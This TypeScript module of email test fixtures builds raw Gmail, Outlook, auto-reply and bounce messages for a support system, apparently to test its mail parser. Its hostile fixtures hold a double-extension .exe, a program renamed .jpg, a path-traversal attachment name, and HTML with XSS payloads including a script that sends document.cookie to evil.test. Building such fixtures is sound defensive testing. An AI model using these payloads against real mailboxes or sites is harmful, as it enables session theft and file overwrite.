/**
 * Realistic inbound emails for tests and the bench: what Gmail, Outlook, an out-of-office responder and a
 * mail server's bounce actually look like on the wire (shortened), plus hostile and broken ones.
 */

const b64 = (s: string | Buffer) => (Buffer.isBuffer(s) ? s : Buffer.from(s)).toString('base64').replace(/.{76}/g, '$&\r\n');
const crlf = (s: string) => s.replace(/\r?\n/g, '\r\n');

export interface FixtureOptions {
  from?: string;
  to?: string;
  subject?: string;
  messageId?: string;
  inReplyTo?: string;
  references?: string[];
  date?: string;
}

const PNG_1PX = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');

function head(o: FixtureOptions, defaults: Required<Pick<FixtureOptions, 'from' | 'subject' | 'messageId'>>): string {
  return [
    `From: ${o.from ?? defaults.from}`,
    `To: ${o.to ?? 'Acme Support <support@shop.test>'}`,
    `Subject: ${o.subject ?? defaults.subject}`,
    `Date: ${o.date ?? 'Mon, 23 Nov 2026 09:12:44 +0100'}`,
    `Message-ID: ${o.messageId ?? defaults.messageId}`,
    ...(o.inReplyTo ? [`In-Reply-To: ${o.inReplyTo}`] : []),
    ...(o.references?.length ? [`References: ${o.references.join('\r\n ')}`] : []),
    'MIME-Version: 1.0',
  ].join('\r\n');
}

/** A new message from Gmail: multipart/alternative, text and HTML. */
export function gmailNew(o: FixtureOptions = {}): Buffer {
  return Buffer.from(crlf(`${head(o, { from: 'Ann Example <ann@customer.test>', subject: 'Where is my order #1042?', messageId: '<CAGm1x=ann-1@mail.gmail.com>' })}
Content-Type: multipart/alternative; boundary="000000000000a1b2c3"

--000000000000a1b2c3
Content-Type: text/plain; charset="UTF-8"

Hi,

I ordered a blue kettle last week (order #1042) and it has not arrived yet.
Could you check where it is?

Thanks,
Ann

--000000000000a1b2c3
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

<div dir=3D"ltr">Hi,<div><br></div><div>I ordered a blue kettle last week (=
order #1042) and it has not arrived yet.</div><div>Could you check where it =
is?</div><div><br></div><div>Thanks,</div><div>Ann</div></div>

--000000000000a1b2c3--
`));
}

/** Gmail's reply to our answer: new text on top, our message quoted below ("On … wrote:", gmail_quote). */
export function gmailReply(o: FixtureOptions = {}): Buffer {
  return Buffer.from(crlf(`${head(o, { from: 'Ann Example <ann@customer.test>', subject: 'Re: Where is my order #1042?', messageId: '<CAGm1x=ann-2@mail.gmail.com>' })}
Content-Type: multipart/alternative; boundary="000000000000d4e5f6"

--000000000000d4e5f6
Content-Type: text/plain; charset="UTF-8"

Great, thank you! It just arrived.

On Mon, 23 Nov 2026 at 10:02, Acme Support <support@shop.test> wrote:

> Hi Ann, your parcel is with the carrier and arrives tomorrow.
>
> Tom
>

--000000000000d4e5f6
Content-Type: text/html; charset="UTF-8"

<div dir="ltr">Great, thank you! It just arrived.</div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Mon, 23 Nov 2026 at 10:02, Acme Support &lt;<a href="mailto:support@shop.test">support@shop.test</a>&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Hi Ann, your parcel is with the carrier and arrives tomorrow.<br><br>Tom</blockquote></div>

--000000000000d4e5f6--
`));
}

/** Outlook's reply: the quoted message starts with a "From: … Sent: …" block; HTML with divRplyFwdMsg. */
export function outlookReply(o: FixtureOptions = {}): Buffer {
  return Buffer.from(crlf(`${head(o, { from: '"Bob Builder" <bob@corp.test>', subject: 'RE: Invoice for order 2001', messageId: '<AM0PR01MB1234ABCD@AM0PR01MB1234.eurprd01.prod.outlook.com>' })}
Thread-Topic: Invoice for order 2001
Thread-Index: AQHZ1234567890
Content-Type: multipart/alternative; boundary="_000_AM0PR01MB1234_"

--_000_AM0PR01MB1234_
Content-Type: text/plain; charset="us-ascii"

Could you send it as a PDF please?

Regards
Bob

________________________________
From: Acme Support <support@shop.test>
Sent: Monday, November 23, 2026 10:02 AM
To: Bob Builder <bob@corp.test>
Subject: Invoice for order 2001

Hi Bob, the invoice is attached.

--_000_AM0PR01MB1234_
Content-Type: text/html; charset="us-ascii"

<html><head><style>p {margin:0}</style></head><body><div>Could you send it as a PDF please?</div><div>Regards<br>Bob</div><div id="appendonsend"></div><hr style="display:inline-block;width:98%" tabindex="-1"><div id="divRplyFwdMsg" dir="ltr"><b>From:</b> Acme Support &lt;support@shop.test&gt;<br><b>Sent:</b> Monday, November 23, 2026 10:02 AM</div><div>Hi Bob, the invoice is attached.</div></body></html>

--_000_AM0PR01MB1234_--
`));
}

/** An Exchange / Gmail-style out-of-office reply (RFC 3834 Auto-Submitted). */
export function outOfOffice(o: FixtureOptions = {}): Buffer {
  return Buffer.from(crlf(`${head(o, { from: 'Carol <carol@customer.test>', subject: 'Automatic reply: Where is my order #1042?', messageId: '<ooo-77@customer.test>' })}
Auto-Submitted: auto-replied
X-Auto-Response-Suppress: All
Content-Type: text/plain; charset="UTF-8"

I am out of the office until 1 December with limited access to email.
`));
}

/** A DSN bounce from a mail server (RFC 3464). */
export function dsnBounce(o: FixtureOptions & { originalId?: string } = {}): Buffer {
  return Buffer.from(crlf(`From: Mail Delivery Subsystem <MAILER-DAEMON@mx.customer.test>
To: support@shop.test
Subject: Undelivered Mail Returned to Sender
Date: Mon, 23 Nov 2026 10:05:00 +0000
Message-ID: ${o.messageId ?? '<20261123100500.DSN1@mx.customer.test>'}
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="DSN-BOUNDARY"

--DSN-BOUNDARY
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx.customer.test.
I'm sorry to have to inform you that your message could not be delivered.

<gone@customer.test>: host mx.customer.test said: 550 5.1.1 User unknown

--DSN-BOUNDARY
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.customer.test

Final-Recipient: rfc822; gone@customer.test
Action: failed
Status: 5.1.1
Diagnostic-Code: smtp; 550 5.1.1 User unknown

--DSN-BOUNDARY
Content-Type: text/rfc822-headers

From: Acme Support <support@shop.test>
To: gone@customer.test
Subject: Re: Refund
Message-ID: ${o.originalId ?? '<0190-reply@shop.test>'}

--DSN-BOUNDARY--
`));
}

/** Not email at all: binary junk a broken client or a scanner sent. */
export function malformed(): Buffer {
  return Buffer.concat([Buffer.from([0x00, 0xff, 0xfe, 0x13, 0x37]), Buffer.from('\r\n\r\n<<<garbage>>>\r\n'), Buffer.alloc(64, 0xaa)]);
}

/** A message with dangerous attachments: a double-extension .exe, a program renamed .jpg, and a real PNG. */
export function exeAttachment(o: FixtureOptions = {}): Buffer {
  const mz = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(126, 0x90)]);
  return Buffer.from(crlf(`${head(o, { from: 'Dan <dan@customer.test>', subject: 'Invoice attached', messageId: '<exe-1@customer.test>' })}
Content-Type: multipart/mixed; boundary="MIXED"

--MIXED
Content-Type: text/plain; charset=utf-8

Please see the attached invoice and photo.

--MIXED
Content-Type: application/octet-stream; name="invoice.pdf.exe"
Content-Disposition: attachment; filename="invoice.pdf.exe"
Content-Transfer-Encoding: base64

${b64(mz)}
--MIXED
Content-Type: image/jpeg; name="photo.jpg"
Content-Disposition: attachment; filename="photo.jpg"
Content-Transfer-Encoding: base64

${b64(mz)}
--MIXED
Content-Type: image/png; name="../../etc/receipt.png"
Content-Disposition: attachment; filename="../../etc/receipt.png"
Content-Transfer-Encoding: base64

${b64(PNG_1PX)}
--MIXED--
`));
}

/** HTML with a script, event handlers, a javascript: link, a tracking pixel and an inline (cid:) image. */
export function htmlWithScript(o: FixtureOptions = {}): Buffer {
  return Buffer.from(crlf(`${head(o, { from: 'Eve <eve@customer.test>', subject: 'Broken product page', messageId: '<xss-1@customer.test>' })}
Content-Type: multipart/related; boundary="REL"

--REL
Content-Type: text/html; charset=utf-8

<html><head><script>alert('head')</script><style>body{background:url(https://evil.test/bg)}</style></head>
<body onload="steal()"><p>Your page shows this:</p><script>document.location='https://evil.test/?c='+document.cookie</script>
<img src="https://tracker.test/pixel.gif?u=eve" width="1" height="1" alt="">
<img src="x" onerror="alert(1)">
<a href="javascript:alert(document.domain)">click me</a> <a href="https://shop.test/p/kettle">the product</a>
<iframe src="https://evil.test/frame"></iframe><form action="https://evil.test"><input name="pw"></form>
<p>Screenshot: <img src="cid:shot-1@eve" alt="screenshot"></p></body></html>
--REL
Content-Type: image/png
Content-ID: <shot-1@eve>
Content-Disposition: inline; filename="shot.png"
Content-Transfer-Encoding: base64

${b64(PNG_1PX)}
--REL--
`));
}

/** A plain new message: the bench's and flood tests' workhorse. */
export function plainNew(o: FixtureOptions & { body?: string } = {}): Buffer {
  return Buffer.from(crlf(`${head(o, { from: 'Fay <fay@customer.test>', subject: 'A question', messageId: `<plain-${Math.random().toString(36).slice(2)}@customer.test>` })}
Content-Type: text/plain; charset=utf-8

${o.body ?? 'Hello, do you ship to Norway?\n\nFay'}
`));
}
